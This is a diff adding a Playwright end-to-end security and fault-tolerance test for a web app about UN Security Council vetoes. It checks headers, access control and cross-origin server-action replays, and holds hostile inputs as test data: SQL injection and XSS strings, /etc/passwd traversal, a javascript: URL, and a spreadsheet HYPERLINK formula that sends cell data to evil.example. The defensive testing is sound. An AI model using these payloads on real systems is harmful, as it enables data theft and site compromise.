@@ -1,0 +1,450 @@
+// Issue 5, faults and hostile input, against a production server this spec owns: `next start` from
+// the build the e2e web server made, on its own embedded database (a `with-database` process that
+// holds a PGlite folder on a fixed port). The spec stops and restarts that database to prove the
+// app answers 503 quickly, does not crash and recovers without a restart. It also checks the
+// security headers, every admin page and route handler without a session and with too small a
+// role, cross-origin server-action posts, hostile query parameters on every page and API route,
+// and hostile text in every text field rendered as text (pages and CSV).
+import { spawn, execFileSync, type ChildProcess } from "node:child_process";
+import { randomBytes } from "node:crypto";
+import { readdirSync, rmSync, statSync } from "node:fs";
+import path from "node:path";
+import pg from "pg";
+import { expect, test } from "@playwright/test";
+
+const PORT = Number(process.env.E2E_FAULTS_PORT ?? Number(process.env.E2E_PORT ?? 3300) + 11);
+const DB_PORT = Number(process.env.E2E_FAULTS_DB_PORT ?? 54341);
+const DIR = ".data/e2e-faults";
+const BASE = `http://127.0.0.1:${PORT}`;
+const DB_URL = `postgresql://postgres:postgres@127.0.0.1:${DB_PORT}/postgres?sslmode=disable`;
+const SECRET = randomBytes(32).toString("base64url");
+const ADMIN = { email: "faults-admin@example.org", password: `pw-${randomBytes(9).toString("base64url")}` };
+const EDITOR = { email: "faults-editor@example.org", password: `pw-${randomBytes(9).toString("base64url")}` };
+
+test.describe.configure({ mode: "serial" });
+test.setTimeout(300_000);
+
+let dbHolder: ChildProcess | null = null;
+let server: ChildProcess | null = null;
+let serverLog = "";
+
+/** Starts the embedded database (migrated and seeded on first start) and resolves when it answers. */
+function startDatabase(): Promise<ChildProcess> {
+  return new Promise((resolve, reject) => {
+    const child = spawn(process.execPath, ["--import", "tsx", "scripts/with-database.ts", process.execPath, "-e", "setInterval(() => {}, 1 << 30)"], {
+      env: { ...process.env, DATABASE_URL: "", EMBEDDED_DB_DIR: DIR, EMBEDDED_DB_PORT: String(DB_PORT), BETTER_AUTH_SECRET: SECRET },
+      stdio: ["ignore", "pipe", "pipe"],
+    });
+    let out = "";
+    const onData = (b: Buffer) => {
+      out += b.toString();
+      if (out.includes("embedded PostgreSQL ready")) resolve(child);
+    };
+    child.stdout!.on("data", onData);
+    child.stderr!.on("data", onData);
+    child.on("exit", (code) => reject(new Error(`database holder exited (${code}):\n${out}`)));
+  });
+}
+
+async function stopDatabase(): Promise<void> {
+  const child = dbHolder;
+  dbHolder = null;
+  if (!child || child.exitCode !== null) return;
+  const exited = new Promise((r) => child.once("exit", r));
+  child.kill("SIGTERM");
+  await exited;
+}
+
+async function waitFor(check: () => Promise<boolean>, ms: number, what: string) {
+  const until = Date.now() + ms;
+  while (Date.now() < until) {
+    if (await check().catch(() => false)) return;
+    await new Promise((r) => setTimeout(r, 250));
+  }
+  throw new Error(`timed out waiting for ${what}\n${serverLog.slice(-4000)}`);
+}
+
+async function sql<T extends pg.QueryResultRow>(text: string, values: unknown[] = []): Promise<T[]> {
+  const client = new pg.Client({ connectionString: DB_URL });
+  await client.connect();
+  try {
+    return (await client.query<T>(text, values)).rows;
+  } finally {
+    await client.end();
+  }
+}
+
+function get(p: string, init: RequestInit = {}): Promise<Response> {
+  return fetch(`${BASE}${p}`, { redirect: "manual", ...init });
+}
+
+async function signIn(user: { email: string; password: string }): Promise<string> {
+  const res = await fetch(`${BASE}/api/auth/sign-in/email`, {
+    method: "POST",
+    headers: { "content-type": "application/json", origin: BASE },
+    body: JSON.stringify(user),
+  });
+  expect(res.status, await res.clone().text()).toBe(200);
+  const cookie = /((?:__Secure-)?better-auth\.session_token=[^;]+)/.exec(res.headers.get("set-cookie") ?? "");
+  if (!cookie) throw new Error("no session cookie");
+  return cookie[1]!;
+}
+
+/** Hostile text in every text field, written before the server starts (no cache holds the old text). */
+async function writeHostileText() {
+  const [draft] = await sql<{ id: number }>(`SELECT id FROM draft WHERE ref = 'S/2024/255'`);
+  await sql(`UPDATE draft SET title = $1, agenda_item = $2 WHERE id = $3`, [`Title ${XSS}`, `Agenda ${XSS}`, draft!.id]);
+  const [src] = await sql<{ id: number }>(`INSERT INTO source (key, title, outlet, url, language, text) VALUES ($1, $2, $3, $4, 'en', $5) RETURNING id`, [
+    `faults-${randomBytes(3).toString("hex")}`,
+    `Source ${XSS}`,
+    `Outlet ${XSS}`,
+    "javascript:window.__xss=1",
+    `Text ${XSS}`,
+  ]);
+  await sql(`INSERT INTO draft_source (draft_id, source_id) VALUES ($1, $2)`, [draft!.id, src!.id]);
+  await sql(`UPDATE member_state SET name_en = $1, name_th = $2 WHERE code = 'RUS'`, [`${FORMULA} Russia ${XSS}`, `${FORMULA} รัสเซีย ${XSS}`]);
+
+}
+
+let adminCookie = "";
+let editorCookie = "";
+
+test.beforeAll(async () => {
+  rmSync(DIR, { recursive: true, force: true });
+  dbHolder = await startDatabase();
+  for (const [role, u] of [["admin", ADMIN], ["editor", EDITOR]] as const)
+    execFileSync(process.execPath, ["--import", "tsx", "tests/e2e/support/create-account.ts", role, u.email, u.password], {
+      env: { ...process.env, DATABASE_URL: DB_URL, BETTER_AUTH_SECRET: SECRET },
+      stdio: "inherit",
+    });
+  await writeHostileText();
+  server = spawn(process.execPath, ["node_modules/next/dist/bin/next", "start", "-p", String(PORT)], {
+    env: { ...process.env, DATABASE_URL: DB_URL, BETTER_AUTH_SECRET: SECRET, BETTER_AUTH_URL: BASE, NEXT_TELEMETRY_DISABLED: "1" },
+    stdio: ["ignore", "pipe", "pipe"],
+  });
+  server.stdout!.on("data", (b: Buffer) => (serverLog += b.toString()));
+  server.stderr!.on("data", (b: Buffer) => (serverLog += b.toString()));
+  await waitFor(async () => (await get("/")).status === 200, 60_000, "next start");
+  adminCookie = await signIn(ADMIN);
+  editorCookie = await signIn(EDITOR);
+});
+
+test.afterAll(async () => {
+  if (server && server.exitCode === null) {
+    const exited = new Promise((r) => server!.once("exit", r));
+    server.kill("SIGTERM");
+    await exited;
+  }
+  await stopDatabase();
+});
+
+// --- Security headers --------------------------------------------------------------------------
+
+test("security headers on pages, API routes and the sign-in page", async () => {
+  for (const p of ["/", "/th/vetoes", "/resolutions/S/2024/255", "/admin/login", "/api/vetoes?from=2024", "/api/resolutions/S/2024/255"]) {
+    const res = await get(p);
+    expect(res.status, p).toBe(200);
+    const h = res.headers;
+    expect(h.get("content-security-policy"), p).toMatch(/frame-ancestors 'none'/);
+    expect(h.get("content-security-policy"), p).toMatch(/default-src 'self'/);
+    expect(h.get("content-security-policy"), p).not.toMatch(/unsafe-eval/);
+    expect(h.get("x-content-type-options"), p).toBe("nosniff");
+    expect(h.get("referrer-policy"), p).toBe("strict-origin-when-cross-origin");
+    expect(h.get("strict-transport-security"), p).toMatch(/max-age=\d{7,}/);
+    expect(h.get("x-powered-by"), p).toBeNull();
+  }
+});
+
+// --- Access: every admin page, every route handler ---------------------------------------------
+
+function pagesUnder(dir: string, base = dir): string[] {
+  return readdirSync(dir).flatMap((name) => {
+    const full = path.join(dir, name);
+    if (statSync(full).isDirectory()) return pagesUnder(full, base);
+    return name === "page.tsx" ? [path.relative(base, dir).split(path.sep).join("/")] : [];
+  });
+}
+
+// Every folder with a page.tsx under app/[locale]/admin, the URL to try and the role it needs.
+const ADMIN_PAGES: Record<string, { urls: string[]; role: "public" | "editor" | "admin" }> = {
+  "": { urls: ["/admin", "/th/admin"], role: "editor" },
+  login: { urls: ["/admin/login"], role: "public" },
+  audit: { urls: ["/admin/audit"], role: "editor" },
+  import: { urls: ["/admin/import"], role: "editor" },
+  members: { urls: ["/admin/members"], role: "editor" },
+  "members/[code]": { urls: ["/admin/members/RUS"], role: "editor" },
+  "resolutions/new": { urls: ["/admin/resolutions/new"], role: "editor" },
+  "resolutions/[...ref]": { urls: ["/admin/resolutions/S/2024/255/edit", "/admin/resolutions/S/2024/255/delete"], role: "editor" },
+  users: { urls: ["/admin/users", "/th/admin/users"], role: "admin" },
+};
+
+test("the access table covers every admin page in the code", () => {
+  expect(Object.keys(ADMIN_PAGES).sort()).toEqual(pagesUnder("app/[locale]/admin").sort());
+});
+
+test("every admin page: no session → sign-in with ?next=, editor on an admin page → 403", async () => {
+  for (const [folder, { urls, role }] of Object.entries(ADMIN_PAGES)) {
+    for (const url of urls) {
+      const anonymous = await get(url);
+      if (role === "public") {
+        expect(anonymous.status, url).toBe(200);
+        continue;
+      }
+      expect([303, 307, 308], `${folder}: ${url} without a session`).toContain(anonymous.status);
+      const target = new URL(anonymous.headers.get("location")!, BASE);
+      const locale = url.startsWith("/th/") ? "/th" : "";
+      expect(target.pathname, url).toBe(`${locale}/admin/login`);
+      expect(target.searchParams.get("next"), url).toBe(url.replace(/^\/th/, ""));
+
+      const asEditor = await get(url, { headers: { cookie: editorCookie } });
+      expect(asEditor.status, `${url} as editor`).toBe(role === "admin" ? 403 : 200);
+      const asAdmin = await get(url, { headers: { cookie: adminCookie } });
+      expect(asAdmin.status, `${url} as admin`).toBe(200);
+    }
+  }
+});
+
+function routesUnder(dir: string, base = dir): string[] {
+  return readdirSync(dir).flatMap((name) => {
+    const full = path.join(dir, name);
+    if (statSync(full).isDirectory()) return routesUnder(full, base);
+    return name === "route.ts" ? [path.relative(base, dir).split(path.sep).join("/")] : [];
+  });
+}
+
+test("every route handler: public ones only read; better-auth refuses writes without a session or role", async () => {
+  const { readFileSync } = await import("node:fs");
+  const methodsOf = (folder: string) =>
+    [...readFileSync(`app/api/${folder}/route.ts`, "utf8").matchAll(/export (?:async function|function|const) (GET|HEAD|POST|PUT|PATCH|DELETE|OPTIONS)\b/g)].map((m) => m[1]).sort();
+  const ROUTES: Record<string, { probe: string; methods: string[] }> = {
+    health: { probe: "/api/health", methods: ["GET"] },
+    vetoes: { probe: "/api/vetoes", methods: ["GET"] },
+    "resolutions/[...ref]": { probe: "/api/resolutions/S/2024/255", methods: ["GET"] },
+    "auth/[...all]": { probe: "/api/auth/get-session", methods: ["GET", "POST"] },
+  };
+  expect(Object.keys(ROUTES).sort()).toEqual(routesUnder("app/api").sort());
+  for (const [folder, { probe, methods }] of Object.entries(ROUTES)) {
+    expect(methodsOf(folder), folder).toEqual(methods);
+    // Data routes take no writes, whoever asks.
+    if (!methods.includes("POST"))
+      for (const method of ["POST", "PUT", "PATCH", "DELETE"]) {
+        const res = await get(probe, { method, headers: { cookie: adminCookie, origin: BASE, "content-type": "application/json" }, body: "{}" });
+        expect(res.status, `${method} ${probe}`).toBe(405);
+      }
+  }
+  const accounts = async () => Number((await sql<{ n: string }>(`SELECT count(*) AS n FROM app_user`))[0]!.n);
+  const before = await accounts();
+  const post = (p: string, body: unknown, cookie = "") =>
+    get(p, { method: "POST", headers: { "content-type": "application/json", origin: BASE, ...(cookie ? { cookie } : {}) }, body: JSON.stringify(body) });
+  // No public sign-up, with or without a session.
+  for (const cookie of ["", editorCookie]) {
+    const res = await post("/api/auth/sign-up/email", { email: `intruder-${randomBytes(3).toString("hex")}@example.org`, password: "long-enough-password-1", name: "x" }, cookie);
+    expect(res.status, `sign-up ${cookie ? "as editor" : "anonymous"}`).toBeGreaterThanOrEqual(400);
+  }
+  // Account changes without a session are refused.
+  for (const p of ["/api/auth/update-user", "/api/auth/change-password", "/api/auth/revoke-sessions"]) {
+    const res = await post(p, { name: "x", currentPassword: "x", newPassword: "long-enough-password-2" });
+    expect(res.status, p).toBeGreaterThanOrEqual(400);
+    expect(res.status, p).toBeLessThan(500);
+  }
+  // An editor cannot make themselves an admin through better-auth's own endpoint.
+  await post("/api/auth/update-user", { role: "admin", name: "Promoted?" }, editorCookie);
+  const [editorRow] = await sql<{ role: string }>(`SELECT role FROM app_user WHERE email = $1`, [EDITOR.email]);
+  expect(editorRow!.role).toBe("editor");
+  expect(await accounts()).toBe(before);
+});
+
+// --- Cross-origin server-action posts ----------------------------------------------------------
+
+test("a server action posted from a foreign origin is refused and writes nothing", async ({ page }) => {
+  await page.setExtraHTTPHeaders({ cookie: adminCookie });
+  // Capture the real "create account" post the browser makes, without letting it through.
+  let captured: { headers: Record<string, string>; body: Buffer } | null = null;
+  await page.route(`${BASE}/admin/users`, async (route) => {
+    const req = route.request();
+    if (req.method() !== "POST") return route.continue();
+    captured = { headers: await req.allHeaders(), body: req.postDataBuffer() ?? Buffer.alloc(0) };
+    await route.abort();
+  });
+  await page.goto(`${BASE}/admin/users`);
+  await page.waitForLoadState("networkidle");
+  const form = page.locator("section[aria-labelledby=users-create] form");
+  const email = `csrf-${randomBytes(3).toString("hex")}@example.org`;
+  await form.getByLabel("Email").fill(email);
+  await form.getByLabel("Name").fill("Cross origin");
+  await form.getByLabel(/^Password/).fill(`pw-${randomBytes(9).toString("base64url")}`);
+  await form.getByRole("button").last().click();
+  await expect.poll(() => captured !== null, { timeout: 15_000 }).toBe(true);
+  const { headers, body } = captured!;
+  expect(headers["next-action"]).toBeTruthy();
+  const replay = (origin: string) => {
+    const h: Record<string, string> = { ...headers, origin, cookie: adminCookie };
+    for (const k of Object.keys(h)) if (k.startsWith(":") || k === "host" || k === "content-length") delete h[k];
+    return fetch(`${BASE}/admin/users`, { method: "POST", headers: h, body: new Uint8Array(body), redirect: "manual" });
+  };
+  const exists = async () => (await sql(`SELECT 1 FROM app_user WHERE email = $1`, [email])).length > 0;
+
+  for (const origin of ["https://evil.example", "null", `http://127.0.0.1:${PORT + 1}`]) {
+    const res = await replay(origin);
+    expect(res.status, `origin ${origin}`).toBeGreaterThanOrEqual(400);
+    expect(await exists(), `origin ${origin}`).toBe(false);
+  }
+  // The same request from the right origin goes through: the refusal above was the origin check.
+  const ok = await replay(BASE);
+  expect(ok.status).toBeLessThan(400);
+  expect(await exists()).toBe(true);
+});
+
+// --- Hostile query parameters on every page and API route --------------------------------------
+
+const HOSTILE = [
+  "'; DROP TABLE draft;--",
+  "<script>alert(1)</script>",
+  "%00",
+  "\u0000",
+  "../../etc/passwd",
+  "-1",
+  "-99999999999999999999",
+  "99999999999999999999999",
+  "1e308",
+  "NaN",
+  "0x10",
+  "RUS' OR '1'='1",
+  "\u202e\ud800",
+];
+const LONG = "x".repeat(10_000);
+const PARAMS = ["country", "vote", "vetoedBy", "topic", "from", "to", "outcome", "q", "sort", "page", "view", "by", "member", "format", "year", "next", "saved", "deleted", "locale"];
+const PAGES = ["/", "/resolutions", "/vetoes", "/countries", "/countries/RUS", "/topics", "/topics/israel-palestine", "/about", "/resolutions/S/2024/255", "/th/resolutions", "/admin/login"];
+const API = ["/api/vetoes", "/api/resolutions/S/2024/255", "/api/auth/get-session"];
+
+function qs(entries: [string, string][]): string {
+  return entries.map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`).join("&");
+}
+
+test("hostile values in every query parameter: 200 with the filter ignored, or a 400 — never a 5xx", async () => {
+  const failures: string[] = [];
+  const check = async (url: string, allowed: number[]) => {
+    const res = await get(url);
+    if (!allowed.includes(res.status)) failures.push(`${res.status} ${url.slice(0, 160)}`);
+  };
+  for (const p of [...PAGES, ...API]) {
+    const allowed = p.startsWith("/api/") ? [200, 400] : [200];
+    for (const v of HOSTILE) await check(`${p}?${qs(PARAMS.map((k) => [k, v]))}`, allowed);
+    for (const k of PARAMS) await check(`${p}?${qs([[k, LONG]])}`, allowed);
+    // Repeated parameters (arrays) and absurd combinations.
+    await check(`${p}?country=RUS&country=USA&vote=N&vote=Y&page=2&page=3&from=2030&to=1950`, allowed);
+    await check(`${p}?page=0&from=-1&to=99999&sort[]=x&q=`, allowed);
+  }
+  expect(failures).toEqual([]);
+});
+
+test("hostile values in path segments: 404 or 400 — never a 5xx", async () => {
+  const failures: string[] = [];
+  const segments = [...HOSTILE, LONG.slice(0, 2_000), "S/2024/255/../../../etc/passwd", "S/-1/-1", "S/99999999999999999999/1"];
+  for (const v of segments) {
+    const enc = encodeURIComponent(v);
+    for (const [url, allowed] of [
+      [`/countries/${enc}`, [404]],
+      [`/topics/${enc}`, [404]],
+      [`/resolutions/${enc}`, [404]],
+      [`/th/resolutions/${enc}`, [404]],
+      [`/api/resolutions/${enc}`, [400, 404]],
+      [`/admin/members/${enc}`, [307]],
+    ] as const) {
+      const res = await get(url);
+      if (!(allowed as readonly number[]).includes(res.status)) failures.push(`${res.status} ${url.slice(0, 160)}`);
+    }
+  }
+  expect(failures).toEqual([]);
+});
+
+// --- Hostile text in every text field renders as text -----------------------------------------
+
+const XSS = `<script>window.__xss=1</script><img src=x onerror="window.__xss=1">"'; DROP TABLE draft;--`;
+const FORMULA = `=HYPERLINK("https://evil.example/?"&A1,"x")`;
+
+test("script tags and HTML in titles, agenda items, sources and member names render as text; CSV cannot execute", async ({ page }) => {
+  const dialogs: string[] = [];
+  page.on("dialog", (d) => {
+    dialogs.push(d.message());
+    void d.dismiss();
+  });
+  // Pages whose data is cached (dashboard, veto history) may show the names from before; they
+  // must still run nothing. The others show the hostile text literally.
+  for (const [p, literal] of [
+    ["/resolutions/S/2024/255", true], ["/th/resolutions/S/2024/255", true], ["/resolutions?from=2024&to=2024", true],
+    ["/countries/RUS", true], ["/th/countries/RUS", true], ["/countries", true], ["/vetoes", false], ["/", false], ["/?from=2024&to=2024", false],
+  ] as const) {
+    await page.goto(`${BASE}${p}`);
+    await page.waitForLoadState("networkidle");
+    expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss), p).toBeUndefined();
+    expect(await page.locator("img[src=x]").count(), p).toBe(0);
+    if (literal) expect(await page.locator("body").innerText(), p).toContain("<script>window.__xss=1</script>");
+  }
+  // The source link is never a javascript: URL.
+  await page.goto(`${BASE}/resolutions/S/2024/255`);
+  expect(await page.locator('a[href^="javascript:"]').count()).toBe(0);
+  // Chart tooltips: hover the vetoes chart's bars; the tooltip shows the name as text.
+  await page.goto(`${BASE}/vetoes?from=2024&to=2024`);
+  const bars = page.locator(".recharts-bar-rectangle, .recharts-rectangle");
+  if ((await bars.count()) > 0) {
+    await bars.first().hover();
+    expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
+  }
+  expect(dialogs).toEqual([]);
+
+  // CSV: a cell that starts with = is prefixed so spreadsheets read it as text.
+  const csv = await (await get("/api/vetoes?format=csv&member=RUS&from=2024&to=2024")).text();
+  const lines = csv.split("\r\n");
+  expect(lines.length).toBeGreaterThan(2);
+  for (const line of lines.slice(1).filter(Boolean)) {
+    expect(line).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""x"") Russia <script>`);
+    expect(line).not.toMatch(/(^|,)[=+\-@]/);
+  }
+  const json = await (await get("/api/resolutions/S/2024/255")).json();
+  expect(json.draft.title).toBe(`Title ${XSS}`);
+});
+
+// --- Database down ----------------------------------------------------------------------------
+
+test("database down: 503 within 3 s, no crash, recovery without a restart", async () => {
+  // Warm the app's pools so that the shutdown kills live idle connections.
+  for (const p of ["/", "/vetoes", "/resolutions", "/api/vetoes?from=2024"]) expect((await get(p)).status, p).toBe(200);
+  await stopDatabase();
+
+  const pages = ["/", "/resolutions", "/vetoes", "/countries/RUS", "/resolutions/S/2024/255", "/th/topics", "/admin", "/admin/login"];
+  for (const round of [1, 2]) {
+    for (const p of pages) {
+      const started = Date.now();
+      const res = await get(p, { headers: { cookie: adminCookie } });
+      const ms = Date.now() - started;
+      const body = await res.text();
+      expect(res.status, `${p} (round ${round})`).toBe(503);
+      expect(ms, `${p} answered in ${ms} ms`).toBeLessThan(3_000);
+      expect(body).toContain(p.startsWith("/th") ? "ไม่สามารถโหลดข้อมูลได้" : "The data could not be loaded");
+      expect(res.headers.get("retry-after")).toBe("5");
+    }
+    for (const p of ["/api/vetoes", "/api/vetoes?format=csv", "/api/resolutions/S/2024/255", "/api/resolutions/1718"]) {
+      const started = Date.now();
+      const res = await get(p);
+      const ms = Date.now() - started;
+      expect(res.status, p).toBe(503);
+      expect(ms, `${p} answered in ${ms} ms`).toBeLessThan(3_500);
+      expect(res.headers.get("content-type")).toMatch(/application\/json/);
+      expect((await res.json()).error.message).toMatch(/database/i);
+    }
+    // Signing in or reading a session needs the database too: an error, not a hang or a crash.
+    const session = await get("/api/auth/get-session", { headers: { cookie: adminCookie } });
+    expect(session.status, "get-session while down").toBeLessThan(600);
+    expect(server!.exitCode, `the server process is alive\n${serverLog.slice(-3000)}`).toBeNull();
+  }
+
+  dbHolder = await startDatabase();
+  // The next request after the database is back succeeds (the failed probe is not cached).
+  await waitFor(async () => (await get("/")).status === 200, 5_000, "first page after restart");
+  for (const p of ["/vetoes", "/resolutions/S/2024/255", "/api/vetoes?from=2024", "/api/resolutions/S/2024/255"])
+    expect((await get(p)).status, `${p} after restart`).toBe(200);
+  expect((await get("/admin", { headers: { cookie: adminCookie } })).status).toBe(200);
+  expect(server!.exitCode).toBeNull();
+  expect(serverLog).not.toMatch(/uncaughtException|Unhandled 'error' event/);
+});
